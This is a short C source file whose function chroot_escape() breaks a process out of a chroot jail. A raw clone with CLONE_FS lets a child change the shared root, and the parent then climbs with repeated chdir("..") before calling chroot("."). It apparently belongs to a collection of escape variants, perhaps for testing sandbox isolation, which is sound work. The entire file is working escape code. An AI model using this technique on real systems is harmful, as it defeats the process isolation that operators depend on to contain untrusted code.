/*
 * Right: a child that shares our two directories (CLONE_FS) changes its root,
 * which is ours
 */
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

int
chroot_escape(void)
{
	int i, status;
	pid_t pid = syscall(SYS_clone, CLONE_FS | SIGCHLD, 0, 0, 0, 0);

	if (pid == 0)
		_exit(chroot("tmp") == -1 ? errno : 0);
	if (waitpid(pid, &status, 0) == -1)
		return -1;
	if (status) {
		errno = WEXITSTATUS(status);
		return -1;
	}
	for (i = 0; i < 5000; i++)
		if (chdir("..") == -1)
			return -1;
	return chroot(".");
}
